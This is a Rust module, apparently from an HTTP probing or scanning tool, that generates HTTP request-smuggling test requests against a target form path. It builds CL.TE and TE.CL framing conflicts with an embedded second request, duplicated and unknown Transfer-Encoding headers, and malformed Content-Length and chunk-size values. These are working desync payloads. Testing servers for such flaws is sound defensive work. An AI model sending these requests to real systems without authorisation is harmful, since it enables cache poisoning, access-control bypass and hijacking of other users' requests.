//! Where a body ends: request smuggling.

use super::{Entry, Target, entry, line};

pub(super) fn entries(target: &Target) -> Vec<Entry> {
    let Some(path) = &target.form else { return Vec::new() };
    let smuggled = format!("0\r\n\r\nGET /carbon HTTP/1.1\r\nHost: {}\r\n\r\n", target.host);
    let post = |headers: &str, body: &str| {
        let headers = format!("Content-Type: application/x-www-form-urlencoded\r\n{headers}");
        line(target, "POST", path.as_bytes(), &headers, body.as_bytes())
    };
    let length = format!("Content-Length: {}\r\n", smuggled.len());
    vec![
        entry(
            "framing",
            "both",
            "length and chunks (CL.TE)",
            post(&format!("{length}Transfer-Encoding: chunked\r\n"), &smuggled),
        ),
        entry(
            "framing",
            "both-swapped",
            "chunks and length (TE.CL)",
            post(&format!("Transfer-Encoding: chunked\r\n{length}"), &smuggled),
        ),
        entry(
            "framing",
            "coding-twice",
            "chunked twice",
            post("Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n", &smuggled),
        ),
        entry(
            "framing",
            "coding-unknown",
            "a coding that one of two readers knows",
            post("Transfer-Encoding: xchunked\r\n", &smuggled),
        ),
        entry(
            "framing",
            "coding-list",
            "a coding before chunked",
            post("Transfer-Encoding: gzip, chunked\r\n", "0\r\n\r\n"),
        ),
        entry(
            "framing",
            "coding-identity",
            "a coding that is no more",
            post(&format!("Transfer-Encoding: identity\r\n{length}"), &smuggled),
        ),
        entry(
            "framing",
            "length-twice",
            "two lengths",
            post("Content-Length: 3\r\nContent-Length: 5\r\n", "a=b&c"),
        ),
        entry("framing", "length-list", "a list of lengths", post("Content-Length: 3, 5\r\n", "a=b&c")),
        entry("framing", "length-sign", "a length with a sign", post("Content-Length: +3\r\n", "a=b")),
        entry(
            "framing",
            "length-hexadecimal",
            "a length that is no number",
            post("Content-Length: 0x3\r\n", "a=b"),
        ),
        entry("framing", "length-negative", "a negative length", post("Content-Length: -1\r\n", "")),
        entry(
            "framing",
            "chunk-size",
            "a chunk size that is no number",
            post("Transfer-Encoding: chunked\r\n", "3g\r\na=b\r\n0\r\n\r\n"),
        ),
        entry(
            "framing",
            "chunk-size-huge",
            "a chunk size that overflows",
            post("Transfer-Encoding: chunked\r\n", "fffffffffffffffff\r\na=b\r\n0\r\n\r\n"),
        ),
    ]
}
